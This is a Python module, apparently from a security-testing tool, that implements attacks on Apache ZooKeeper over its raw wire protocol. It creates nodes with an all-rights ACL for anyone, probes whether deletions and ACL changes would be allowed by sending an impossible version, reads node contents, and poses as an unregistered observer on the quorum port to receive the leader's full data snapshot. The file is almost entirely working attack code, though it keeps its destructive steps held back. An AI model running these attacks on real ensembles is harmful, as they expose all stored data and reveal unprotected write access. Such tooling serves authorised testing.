"""Attacks on ZooKeeper: as a client (of its protocol only what that takes), and as an observer of the ensemble."""

from __future__ import annotations

import socket
import struct

from .outcome import Denied, of_connection
from .wire import TIMEOUT_S

CLIENT_PORT, QUORUM_PORT = 2181, 2888
CREATE, DELETE, GET_DATA, SET_ACL, GET_CHILDREN, ADD_AUTH = 1, 2, 4, 7, 8, 100
XID_AUTH = -4
ANYBODY_ALL = struct.pack(">ii", 1, 31)  # one entry, all rights
NO_AUTH, BAD_VERSION = -102, -103
ERRORS = {NO_AUTH: "NoAuth", -101: "NoNode", -110: "NodeExists", -111: "NotEmpty", -115: "AuthFailed"}
NEVER = 999_999_999  # a version that no node has: who may act is told so, and nothing happens
# Of the ensemble's own protocol
OBSERVER_INFO, LEADER_INFO, ACK_EPOCH, SNAP = 16, 17, 18, 15


def _text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack(">i", len(raw)) + raw


class Client:
    """A session; ``login`` is ``USER:PASSWORD`` of scheme digest.

    Raises:
        Denied: no connection.
    """

    def __init__(self, at: str, login: str = "") -> None:
        try:
            self._socket = socket.create_connection((at, CLIENT_PORT), TIMEOUT_S)
            self._send(struct.pack(">iqiq", 0, 0, 10_000, 0) + _text(b"\0" * 16) + b"\0")
            self._receive()
            if login:
                self._call(XID_AUTH, ADD_AUTH, struct.pack(">i", 0) + _text("digest") + _text(login))
        except (OSError, EOFError) as error:
            raise of_connection(error) from error

    def close(self) -> None:
        """Ends the connection; the session ends by its time-out, and owns nothing."""
        self._socket.close()

    def call(self, kind: int, body: bytes) -> bytes:
        """The answer to a request.

        Raises:
            Denied: an error of ZooKeeper, by its name.
        """
        return self._call(1, kind, body)

    def _call(self, xid: int, kind: int, body: bytes) -> bytes:
        self._send(struct.pack(">ii", xid, kind) + body)
        while True:
            answer = self._receive()
            found, _, error = struct.unpack_from(">iqi", answer)
            if found == xid:
                break
        if error:
            raise Denied(ERRORS.get(error, str(error)), f"error {error}")
        return answer[16:]

    def _send(self, data: bytes) -> None:
        self._socket.sendall(struct.pack(">i", len(data)) + data)

    def _receive(self) -> bytes:
        (length,) = struct.unpack(">i", _read(self._socket, 4))
        return _read(self._socket, length)


def _read(connection: socket.socket, length: int) -> bytes:
    out = b""
    while len(out) < length:
        piece = connection.recv(length - len(out))
        if not piece:
            raise EOFError(f"closed after {len(out)} of {length} bytes")
        out += piece
    return out


def create(at: str, path: str, login: str = "") -> str:
    """A node that anybody may do anything with; it is deleted again."""
    client = Client(at, login)
    try:
        acl = ANYBODY_ALL + _text("world") + _text("anyone")
        client.call(CREATE, _text(path) + _text(b"attack") + acl + struct.pack(">i", 0))
        client.call(DELETE, _text(path) + struct.pack(">i", -1))
    finally:
        client.close()
    return f"created and deleted {path}"


def delete(at: str, path: str, login: str = "") -> str:
    """The deletion of a node, with a version that keeps it from happening where it is allowed."""
    return _held_back(at, DELETE, _text(path) + struct.pack(">i", NEVER), login)


def set_acl(at: str, path: str, login: str = "") -> str:
    """All rights for anybody, held back as above."""
    acl = ANYBODY_ALL + _text("world") + _text("anyone")
    return _held_back(at, SET_ACL, _text(path) + acl + struct.pack(">i", NEVER), login)


def _held_back(at: str, kind: int, body: bytes, login: str) -> str:
    client = Client(at, login)
    try:
        client.call(kind, body)
    except Denied as denied:
        if denied.reason == str(BAD_VERSION):
            return "allowed: only the version was wrong"
        raise
    finally:
        client.close()
    return "done"


def read(at: str, path: str, login: str = "") -> str:
    """What a node holds, and the names below it."""
    client = Client(at, login)
    try:
        client.call(GET_DATA, _text(path) + b"\0")
        answer = client.call(GET_CHILDREN, _text(path) + b"\0")
    finally:
        client.close()
    return repr(answer[:200])


def observer(at: str, says: str) -> str:
    """The tree, as the leader at ``at`` sends it to a member that nobody knows; ``says`` is in it."""
    try:
        with socket.create_connection((at, QUORUM_PORT), TIMEOUT_S) as leader:
            leader.settimeout(TIMEOUT_S)
            about = struct.pack(">qiq", 999, 0x10000, 0)  # id, version of the protocol, version of the configuration
            leader.sendall(_packet(OBSERVER_INFO, 0, about))
            kind, zxid, _ = _packet_from(leader)
            if kind != LEADER_INFO:
                raise Denied(f"packet {kind}")
            # it accepted no epoch and has no data: the leader sends all
            leader.sendall(_packet(ACK_EPOCH, 0, struct.pack(">i", 0)))
            seen = [kind]
            while SNAP not in seen:
                kind, zxid, _ = _packet_from(leader)
                seen.append(kind)
            got = b""
            while says.encode() not in got:
                got += _read(leader, 1)
            return f"packets {seen}; {len(got)} bytes into the tree of {zxid:x} comes {says!r}"
    except (OSError, EOFError, struct.error) as error:
        raise of_connection(error) from error


def _packet(kind: int, zxid: int, data: bytes) -> bytes:
    return struct.pack(">iq", kind, zxid) + _text(data) + struct.pack(">i", -1)


def _packet_from(leader: socket.socket) -> tuple[int, int, bytes]:
    kind, zxid, length = struct.unpack(">iqi", _read(leader, 16))
    data = _read(leader, length) if length > 0 else b""
    (identities,) = struct.unpack(">i", _read(leader, 4))
    for _ in range(max(0, identities)):
        for _ in range(2):
            (length,) = struct.unpack(">i", _read(leader, 4))
            _read(leader, length)
    return kind, zxid, data
